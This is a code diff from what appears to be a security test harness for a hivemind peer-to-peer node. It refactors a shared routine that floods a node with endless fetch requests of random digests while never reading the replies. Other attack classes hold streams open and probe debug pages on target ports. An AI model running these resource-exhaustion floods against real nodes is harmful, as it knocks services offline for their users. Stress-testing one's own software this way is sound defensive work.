@@ -2,6 +2,7 @@
 
 import asyncio
 import contextlib
+import random
 
 import psutil
 from hivemind.p2p import P2P, PeerID
@@ -27,6 +28,14 @@ async def open_stream(caller: Hostile, target: Target, *protocols: str) -> Strea
     calling = caller.transport.p2p._client.stream_open(PeerID(target.author), protocols or (FETCH,))
     _, reader, writer = await asyncio.wait_for(calling, OPEN_SECONDS)
     return reader, writer
+
+
+async def ask_ahead(writer: asyncio.StreamWriter, rng: random.Random, size: int) -> None:
+    """Requests for digests of so many bytes, until the node, or p2pd, has had enough."""
+    with contextlib.suppress(OSError):
+        while True:
+            digests = [rng.randbytes(size) for _ in range(64)]
+            await P2P.send_protobuf(ftis_pb2.FetchRequest(digests=digests), writer)
 
 
 class Row33NeverRead(Crowd):
@@ -58,15 +67,9 @@ class Row33NeverRead(Crowd):
     async def _hold(self, caller: Hostile, target: Target) -> None:
         _, writer = await open_stream(caller, target)
         self._held.append(writer)
-        task = asyncio.create_task(self._ahead(writer))
+        task = asyncio.create_task(ask_ahead(writer, self.rng, 100))
         self._asking.add(task)
         task.add_done_callback(self._asking.discard)
-
-    async def _ahead(self, writer: asyncio.StreamWriter) -> None:
-        request = ftis_pb2.FetchRequest(digests=[self.rng.randbytes(100) for _ in range(64)])
-        with contextlib.suppress(OSError):  # until the node, or p2pd, has had enough
-            while True:
-                await P2P.send_protobuf(request, writer)
 
 
 class Row33HalfOpen(Attack):
@@ -127,7 +130,7 @@ class Row40Debug(Attack):
 
     async def strike(self) -> None:
         for target in self.peer.targets:
-            for port in await asyncio.to_thread(self._ports, int(target.address.split("/tcp/")[1].split("/")[0])):
+            for port in await asyncio.to_thread(self._ports, target.port):
                 for page in DEBUG:
                     await self._try(self._get(port, page))
 
@@ -173,7 +176,7 @@ class Row41Requests(Attack):
 
     async def _ask(self, target: Target) -> None:
         reader, writer = await open_stream(self.peer, target)
-        asking = asyncio.create_task(self._ahead(writer))
+        asking = asyncio.create_task(ask_ahead(writer, self.rng, 32))
         try:
             while True:
                 await P2P.receive_protobuf(ftis_pb2.FetchChunk, reader)
@@ -181,12 +184,6 @@ class Row41Requests(Attack):
         finally:
             asking.cancel()
             writer.transport.abort()
-
-    async def _ahead(self, writer: asyncio.StreamWriter) -> None:
-        with contextlib.suppress(OSError):
-            while True:
-                digests = [self.rng.randbytes(32) for _ in range(64)]
-                await P2P.send_protobuf(ftis_pb2.FetchRequest(digests=digests), writer)
 
 
 class Row62Addresses(Attack):
